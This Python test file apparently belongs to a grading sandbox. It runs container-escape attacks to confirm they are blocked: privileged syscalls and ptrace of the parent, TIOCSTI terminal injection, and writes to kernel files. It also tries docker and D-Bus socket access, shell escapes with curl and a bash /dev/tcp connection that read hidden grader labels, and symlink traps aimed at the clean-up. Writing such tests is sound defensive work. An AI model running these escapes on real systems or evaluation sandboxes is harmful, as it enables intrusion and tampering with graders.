"""Getting out: rows 39 to 42."""

from __future__ import annotations

import os
from pathlib import Path

from gabarito.execution import kernel
from gabarito.execution.sandbox import calls
from tests.attacks.ears import Ears
from tests.attacks.lab import Lab
from tests.attacks.rows import BLOCKED, NOT_COVERED, Outcome, row, unless


@row(
    39,
    "mount, unshare, ptrace, bpf, io_uring, userfaultfd, keyctl, perf, ioctl(TIOCSTI)",
    (BLOCKED, BLOCKED, NOT_COVERED),
)
def test_row_39_system_calls(lab: Lab) -> Outcome:
    ran = lab.attack(
        r"""
import ctypes, fcntl
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long

def call(name, *arguments):
    # In a process of its own: what works may change the process for good.
    def body():
        return libc.syscall(ctypes.c_long(numbers[name]), *[
            ctypes.c_long(one) if isinstance(one, int) else one for one in arguments]) >= 0
    worked(name, body)

def worked(name, body):
    pid = os.fork()
    if pid == 0:
        try:
            os._exit(0 if body() else 1)
        finally:
            os._exit(2)
    if os.waitpid(pid, 0)[1] == 0:
        loot.append([name, ''])

buffer = ctypes.create_string_buffer(4096)
me = os.getpid()
for flags in (0x10000000, 0x00020000, 0x20000000, 0x40000000, 0x02000000):
    call('unshare', flags)
call('mount', b'none', b'.', b'tmpfs', 0, None)
call('chroot', b'.')
call('fsopen', b'tmpfs', 0)
call('open_tree', -100, b'.', 1)
call('setns', os.open('/proc/self/ns/mnt', os.O_RDONLY) if attempt('', os.stat, '/proc/self/ns/mnt') else -1, 0)
call('ptrace', 0, 0, 0, 0)
call('ptrace', 16, os.getppid(), 0, 0)
call('process_vm_readv', me, buffer, 0, buffer, 0, 0)
call('process_vm_writev', os.getppid() or me, buffer, 0, buffer, 0, 0)
call('kcmp', me, me, 0, 0, 0)
call('pidfd_getfd', os.pidfd_open(me), 0, 0)
call('keyctl', 0, -3, 1)
call('add_key', b'user', b'gabarito-test', b'x', 1, -2)
call('bpf', 0, buffer, 128)
call('perf_event_open', buffer, 0, -1, -1, 0)
call('userfaultfd', 1)
call('io_uring_setup', 1, buffer)
call('name_to_handle_at', -100, b'.', buffer, buffer[1024:], 0)
call('mknod', b'null', 0o20666, os.makedev(1, 3))
call('syslog', 10, 0, 0)
call('fanotify_init', 0, 0)
call('memfd_secret', 0)
call('socket', 16, 3, 0)
worked('clone', lambda: libc.syscall(ctypes.c_long(numbers['clone']), ctypes.c_long(0x10000000 | 17), 0, 0, 0, 0) > 0)
worked('setuid', lambda: os.setuid(0) is None and os.getuid() == 0 and 'CapEff:\t0000000000000000' not in
       open('/proc/self/status').read())
def push():
    # Types into the terminal that started the grader.
    tty = os.open('/dev/tty', os.O_RDWR)
    fcntl.ioctl(tty, 0x5412, b'#')
    return True
worked('tiocsti', push)
for path in ('/proc/sys/kernel/core_pattern', '/proc/sys/vm/overcommit_memory', '/proc/sysrq-trigger', '/dev/kmsg',
             '/sys/kernel/uevent_helper', '/proc/self/mem'):
    attempt(path, os.close, os.open(path, os.O_WRONLY) if os.access(path, os.W_OK) and
            attempt('', os.open, path, os.O_WRONLY) else -1)
loot[:] = [pair for pair in loot if pair[0]]
""",
        facts={"numbers": dict(calls.numbers(kernel.ARCHITECTURE))},
    )
    print(ran.taken)
    return unless(ran.taken)


@row(40, "set-uid programs; the sockets of docker, ssh-agent, D-Bus; abstract sockets", (BLOCKED, BLOCKED, NOT_COVERED))
def test_row_40_sockets_and_setuid(lab: Lab, ears: Ears) -> Outcome:
    ran = lab.attack(
        r"""
def connect(address):
    with socket.socket(socket.AF_UNIX) as client:
        client.settimeout(2)
        client.connect(address)
for address in (stream, abstract, '/var/run/docker.sock', '/run/dbus/system_bus_socket', '/run/user/1000/bus'):
    attempt('socket', connect, address)
def status_of(program):
    with subprocess.Popen([program], stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) as it:
        lines = dict(line.split(':\t') for line in open(f'/proc/{it.pid}/status') if ':\t' in line)
        it.kill()
    assert int(lines['CapEff'], 16) or lines['Uid'].split()[1] != str(os.geteuid())
    return lines['Uid']
for program in ('/usr/bin/su', '/usr/bin/passwd', '/usr/bin/newgrp', '/usr/bin/mount', '/usr/bin/sudo'):
    attempt('setuid', status_of, program)
""",
        facts=ears.facts,
    )
    assert "setuid" not in ran.taken  # no-new-privileges is in every tier
    return unless(ears.heard & {"stream", "abstract"})


@row(41, "!pip install, !curl, %run, %%bash", (BLOCKED, BLOCKED, NOT_COVERED))
def test_row_41_shell_escapes(lab: Lab, ears: Ears) -> Outcome:
    hidden = lab.course.root / "graders" / "toy" / "labels.csv"
    port = ears.facts["tcp"]
    ran = lab.attack(
        f"!curl -s -m 2 http://127.0.0.1:{port}/\n"
        f"!env -u PIP_NO_INDEX {{sys.executable}} -m pip install -q --retries 0 --timeout 2"
        f" --index-url http://127.0.0.1:{port}/simple no-such-thing\n"
        f"said = !cat {hidden}\nloot.append(['cat', str(said)])",
        f"%%bash\nexec 3<>/dev/tcp/127.0.0.1/{port}\ncat {hidden}",
        f"with open('hostile.py', 'w') as file:\n    file.write('run = open({str(hidden)!r}).read()')",
        "%run hostile.py",
        "loot.append(['run', globals().get('run')])",
        ends=False,
    )
    assert ran.graded.runs[-1].status == "ok"
    assert len(ran.loot) >= 3
    assert hidden.exists()
    return unless(lab.secret in str(ran.loot) + str(ran.graded.runs) or "tcp" in ears.heard)


@row(42, "plants links and locked folders to trap the clean-up", BLOCKED)
def test_row_42_planted_links(lab: Lab, tmp_path: Path) -> Outcome:
    victim = tmp_path / "victim"
    (victim / "deep").mkdir(parents=True)
    (victim / "deep" / "kept.txt").write_text("kept")
    os.chmod(victim, 0o755)
    before = (victim.stat().st_mode, victim.stat().st_nlink)
    lab.attack(
        r"""
home, work = os.path.expanduser('~'), os.getcwd()
for place in (home, work):
    attempt('link', os.symlink, victim, place + '/link')
    attempt('link', os.symlink, victim + '/deep', place + '/other')
    attempt('hard', os.link, victim + '/deep/kept.txt', place + '/hard')
    os.makedirs(place + '/a/b/c', exist_ok=True)
    attempt('link', os.symlink, '/', place + '/a/b/c/root')
    os.chmod(place + '/a/b', 0)
    os.chmod(place + '/a', 0)
deep = os.getcwd()
for n in range(1500):
    attempt('deep', os.mkdir, 'd')
    attempt('deep', os.chdir, 'd')
os.chdir(deep)
# Its own folders, swapped for links.
attempt('swap', os.rename, work, work + '-old')
attempt('swap', os.symlink, victim, work)
attempt('swap', os.rename, home, home + '-old')
attempt('swap', os.symlink, victim, home)
attempt('gone', os.rmdir, home + '/tmp')
attempt('swap', os.symlink, victim, home + '/tmp')
""",
        facts={"victim": str(victim)},
    )
    kept = (victim / "deep" / "kept.txt").exists()
    same = (victim.stat().st_mode, victim.stat().st_nlink) == before
    return unless(not kept or not same)
